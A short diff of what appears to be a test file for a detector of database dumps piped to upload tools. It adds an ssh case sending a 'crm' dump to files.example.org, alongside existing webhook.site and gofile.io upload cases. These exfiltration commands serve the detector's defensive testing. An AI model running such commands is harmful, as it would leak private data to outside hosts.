@@ -70,6 +70,12 @@ describe('a dump piped to an uploader', () => {
       destination: 'webhook.site',
     },
     {
+      title: 'ssh',
+      member: [{ path: '/usr/bin/ssh' }, 'ssh lena@files.example.org dd of=crm', 31, undefined],
+      service: null,
+      destination: 'files.example.org',
+    },
+    {
       title: 'HTTPie',
       member: [{ path: '/opt/homebrew/bin/http' }, 'http POST https://gofile.io/u', 31, undefined],
       service: 'gofile',
